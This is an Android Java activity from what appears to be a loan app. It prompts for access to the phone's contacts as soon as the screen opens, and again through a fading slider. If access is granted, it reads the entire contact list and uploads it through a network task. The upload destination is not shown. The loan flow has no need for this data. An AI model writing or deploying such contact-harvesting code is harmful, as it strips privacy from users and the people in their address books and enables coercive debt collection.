package com.brightfern.credit;

import android.Manifest;
import android.app.Activity;
import android.content.Intent;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.widget.SeekBar;

import com.brightfern.credit.net.SubmitTask;
import com.brightfern.credit.people.PeopleReader;

/** Asks for the phone book by a slider that is pushed to its end. */
public class LoanApplyActivity extends Activity implements SeekBar.OnSeekBarChangeListener {
    private static final int ASKED = 41;
    private static final int FAR = 95;

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.slide);
        ((SeekBar) findViewById(R.id.slider)).setOnSeekBarChangeListener(this);
        findViewById(R.id.refuse).setOnClickListener(touched -> next());
        ask();
    }

    @Override
    public void onProgressChanged(SeekBar slider, int progress, boolean byTouch) {
        slider.setAlpha(1 - progress / 200f);
    }

    @Override
    public void onStartTrackingTouch(SeekBar slider) {
        slider.setAlpha(1);
    }

    @Override
    public void onStopTrackingTouch(SeekBar slider) {
        if (slider.getProgress() > FAR) {
            ask();
        } else {
            slider.setProgress(0);
        }
    }

    private void ask() {
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, ASKED);
    }

    private void next() {
        startActivity(new Intent(this, ResultActivity.class));
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        if (results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED) {
            new SubmitTask(new PeopleReader(this).read()).execute(1000);
        }
        next();
    }
}
